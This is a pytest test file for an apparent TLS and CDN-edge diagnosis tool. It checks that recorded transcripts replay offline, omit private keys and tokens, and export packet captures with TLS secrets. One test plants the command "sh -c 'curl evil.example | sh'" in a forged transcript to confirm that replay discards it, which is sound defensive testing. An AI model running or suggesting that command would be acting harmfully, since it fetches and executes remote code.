"""What was recorded is judged again without a network, and holds nothing that is secret."""

import asyncio
import json
import socket
import struct
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cf525.diagnosis.options import Options
from cf525.errors import UsageError
from cf525.jobs import replay as transcript
from cf525.lab.ca import Authority
from cf525.lab.running import Lab, start
from cf525.lab.scenarios import SCENARIOS, Scenario
from cf525.model import Report, Unknown
from cf525.model.parsing import parse_target
from cf525.model.registry import TLS12, TLS13
from cf525.probe.pcap import pcapng
from cf525.probe.reach import Reach, load_client_certificate
from cf525.series.run import Repeat
from tests.diagnosis.test_own_certificate import CA, CLIENT, HOST, origin
from tests.edgeview.test_visits import edge_world
from tests.series.fickle import fickle

SAMPLE = Path(__file__).parents[2] / "fixtures" / "diagnoses" / "expired.json"
"""Made by tests/diagnosis/record_sample.py from the lab's expired.example.com."""


def shape(report: Report) -> tuple[object, ...]:
    """What two judgements of one transcript must share."""
    seen = sorted(
        (each.route, str(each.variation), each.stage, each.ending, each.certificates)
        for each in report.observations
    )
    return (
        report.edge_status,
        report.confidence,
        report.headline,
        report.summary,
        [each.id for each in report.findings],
        sorted(each.id for each in report.unknowns),
        [[defect.code for defect in each.defects] for each in report.chain_verdicts],
        seen,
    )


def recorded(host: str, options: Options) -> tuple[Report, transcript.Transcript]:
    return asyncio.run(transcript.recorded(parse_target(host), options))


def again(kept: transcript.Transcript, folder: Path) -> Report:
    file = folder / "transcript.json"
    file.write_text(transcript.to_text(kept), "utf-8")
    return asyncio.run(transcript.replay(transcript.load(file)))


@pytest.mark.parametrize("scenario", SCENARIOS[::2], ids=lambda each: each.host)
def test_a_replay_comes_to_the_same_judgement(lab: Lab, scenario: Scenario, tmp_path: Path) -> None:
    report, kept = recorded(scenario.host, lab.options())
    assert shape(again(kept, tmp_path)) == shape(report)


def test_a_replay_opens_no_connection(
    lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report, kept = recorded("www.example.com", lab.options())
    tried: list[object] = []

    def refuse(_: socket.socket, place: object) -> None:
        tried.append(place)
        raise OSError

    monkeypatch.setattr(socket.socket, "connect", refuse)
    assert shape(again(kept, tmp_path)) == shape(report)
    assert tried == []


def test_the_visit_is_read_again(tmp_path: Path) -> None:
    with start(edge_world()) as lab:
        report, kept = recorded("edge-only.example.com", replace(lab.options(), edge=True))
    second = again(kept, tmp_path)
    assert second.visit is not None
    assert report.visit is not None
    assert (second.visit.code, second.visit.ray) == (report.visit.code, report.visit.ray)
    assert shape(second)[:5] == shape(report)[:5]


def test_a_series_is_counted_again(tmp_path: Path) -> None:
    leaf = Authority().issue(HOST)
    with fickle(lambda caller: None if caller.number % 5 == 0 else 0, leaf) as flaky:
        options = Options(
            origins=(("127.0.0.1", flaky.port),),
            mode="full",
            edge=False,
            fetch=False,
            repeat=Repeat(count=20, parallel=4),
        )
        report, kept = recorded(HOST, options)
    second = again(kept, tmp_path)
    assert second.headline == report.headline == "one-in-several"
    assert [part.failed for part in second.series[0].parts] == [
        part.failed for part in report.series[0].parts
    ]


@pytest.mark.parametrize("kind", ["rsa2048", "p256"])
@pytest.mark.parametrize("version", [TLS12, TLS13])
def test_mutual_tls_replays_without_the_key(version: int, kind: str, tmp_path: Path) -> None:
    issued = CA.issue("edge", kind=kind, purpose=CLIENT)
    (tmp_path / "own.pem").write_bytes(issued.chain_pem + issued.key_pem)
    own = load_client_certificate(tmp_path / "own.pem", None)
    with origin(version) as place:
        options = Options(
            origins=(place,),
            mode="full",
            fetch=False,
            edge=False,
            reach=Reach(client_certificate=own),
        )
        report, kept = recorded(HOST, options)
    text = transcript.to_text(kept)
    assert "PRIVATE" not in text
    assert shape(again(kept, tmp_path)) == shape(report)
    assert report.edge_status == "ok"


def test_no_token_is_in_a_transcript(lab: Lab) -> None:
    _, kept = recorded("www.example.com", lab.options())
    text = transcript.to_text(kept)
    token = lab.world.tokens[0].value
    assert f'"{token}"' not in text
    assert "Bearer" not in text
    assert "authorization" not in text.lower()


@pytest.mark.parametrize(
    "content",
    [b"", b"[]", b"{}", b'{"schema": "x"}', b'{"schema": "cf525.transcript/1"}', b"[" * 99_999],
)
def test_what_is_no_transcript_is_wrong_usage(content: bytes, tmp_path: Path) -> None:
    file = tmp_path / "x.json"
    file.write_bytes(content)
    with pytest.raises(UsageError):
        transcript.load(file)
    with pytest.raises(UsageError):
        transcript.load(tmp_path / "none.json")


WHATEVER = st.sampled_from(
    [None, True, -1, 10**30, 1e300, "", "x", "2026-01-01", "AAAA", [], {}, [1], {"a": 1}, ["", ""]]
)


def places(value: object) -> Iterator[tuple[Any, Any]]:
    """Every container of a JSON document with each of its keys."""
    if isinstance(value, dict | list):
        for key in value if isinstance(value, dict) else range(len(value)):
            yield value, key
            yield from places(value[key])


@settings(max_examples=120, deadline=None)
@given(st.data())
def test_a_damaged_transcript_is_wrong_usage_or_still_judged(data: st.DataObject) -> None:
    plain = json.loads(SAMPLE.read_text("utf-8"))
    container, key = data.draw(st.sampled_from(list(places(plain))))
    container[key] = data.draw(WHATEVER)
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "t.json"
        file.write_text(json.dumps(plain))
        try:
            report = asyncio.run(transcript.replay(transcript.load(file)))
        except UsageError:
            return
    assert report.edge_status


def blocks(data: bytes) -> Iterator[tuple[int, bytes]]:
    at = 0
    while at < len(data):
        kind, length = struct.unpack_from("<II", data, at)
        assert length % 4 == 0
        assert struct.unpack_from("<I", data, at + length - 4)[0] == length
        yield kind, data[at + 8 : at + length - 4]
        at += length


def test_a_capture_holds_the_bytes_and_the_keys(lab: Lab) -> None:
    _, kept = recorded("healthy.example.com", lab.options())
    found = list(blocks(pcapng(kept.probes)))
    assert [kind for kind, _ in found[:3]] == [0x0A0D0D0A, 1, 0x0A]
    keys = found[2][1][8:].decode()
    assert "CLIENT_HANDSHAKE_TRAFFIC_SECRET " in keys
    assert "SERVER_TRAFFIC_SECRET_0 " in keys
    payload = {0: b"", 1: b""}
    for kind, body in found[3:]:
        assert kind == 6
        packet = body[20 : 20 + struct.unpack_from("<I", body, 12)[0]]
        head = (packet[0] & 15) * 4
        assert sum(struct.unpack(f">{head // 2}H", packet[:head])) % 0xFFFF == 0
        assert struct.unpack_from(">H", packet, 2)[0] == len(packet)
        segment = packet[head:]
        payload[int(packet[12:16] != bytes((192, 0, 2, 1)))] += segment[20:]
    sent = b"".join(s.data for p in kept.probes for s in p.steps if s.what == "sent")
    received = b"".join(s.data for p in kept.probes for s in p.steps if s.what == "received")
    assert payload == {0: sent, 1: received}
    assert sent[:1] == b"\x16"


def test_a_transcript_is_json_of_its_own_schema(lab: Lab) -> None:
    _, kept = recorded("www.example.com", lab.options())
    assert json.loads(transcript.to_text(kept))["schema"] == "cf525.transcript/1"


def test_what_is_to_be_done_is_not_a_recordings_to_say(lab: Lab, tmp_path: Path) -> None:
    """It stands on the first screen to be carried out, and the file may be anybody's."""
    _, kept = recorded("expired.example.com", lab.options())
    told = "sh -c 'curl evil.example | sh'"
    for id in ("origin-not-named", "conditional-rule"):
        forged = replace(kept, unknowns=(Unknown(id=id, text="x.", next=told),))
        report = again(forged, tmp_path)
        assert "evil" not in "".join(each.next for each in report.unknowns)
    honest = Unknown(id="conditional-rule", text="x.", next="Give the token Zone Read.")
    report = again(replace(kept, unknowns=(honest,)), tmp_path)
    assert honest.next in {each.next for each in report.unknowns}
